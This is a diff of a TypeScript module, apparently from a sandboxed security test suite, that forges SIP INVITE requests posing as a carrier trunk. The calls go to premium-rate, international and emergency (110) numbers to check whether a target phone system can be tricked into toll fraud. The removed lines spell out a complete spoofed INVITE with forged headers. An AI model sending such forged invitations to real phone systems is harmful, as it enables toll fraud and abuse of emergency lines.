@@ -1,31 +1,8 @@
 import { above, type Attack } from "./attack";
 import { overhear } from "./overhear";
-import { forge, offer } from "./stranger";
-import type { Target } from "./target";
+import { forgedInvitation } from "./forged-invitation";
+import { forge } from "./stranger";
 import { askedOfCarrier, premium } from "./thief";
-
-/** Not the carrier's own, so that nobody there answers for it. */
-const port = 5999;
-
-/** A call to `number` as the carrier would bring it. */
-function invitation(target: Target, number: string, index: number): string {
-  const source = target.sandbox.addresses.carrier.signalling;
-  const body = offer.body.replaceAll("{address}", source);
-  return [
-    `INVITE sip:${number}@${target.address} SIP/2.0`,
-    `Via: SIP/2.0/UDP ${source}:${port};branch=z9hG4bKforged${index}-${Date.now()};rport`,
-    "Max-Forwards: 70",
-    `From: <sip:+81398765432@${source}>;tag=forged${index}`,
-    `To: <sip:${number}@${target.address}>`,
-    `Call-ID: forged-${number}-${Date.now()}`,
-    "CSeq: 1 INVITE",
-    `Contact: <sip:carrier@${source}:${port}>`,
-    "Content-Type: application/sdp",
-    `Content-Length: ${body.length}`,
-    "",
-    body,
-  ].join("\r\n");
-}
 
 /** Whether an overheard message says that the call to `number` rings or was answered. */
 const rings = (text: string, number: string) =>
@@ -44,9 +21,7 @@ export const forgedTrunk: Attack = {
     const others = [...accounts.slice(0, 2).map(({ number }) => number), "s", premium, `+81${premium.slice(1)}`];
     const numbers = [did, ...others, "0088299912345", "0312345679", "110"];
     const source = sandbox.addresses.carrier.signalling;
-    const packets = numbers.map((number, index) => ({
-      ...{ source, sourcePort: port, text: invitation(target, number, index) },
-    }));
+    const packets = numbers.map((number) => forgedInvitation(target.address, source, number));
     const { result, numbers: outside } = await askedOfCarrier(target, () =>
       overhear(target, "carrier", 2_000, () => forge(target, packets)),
     );
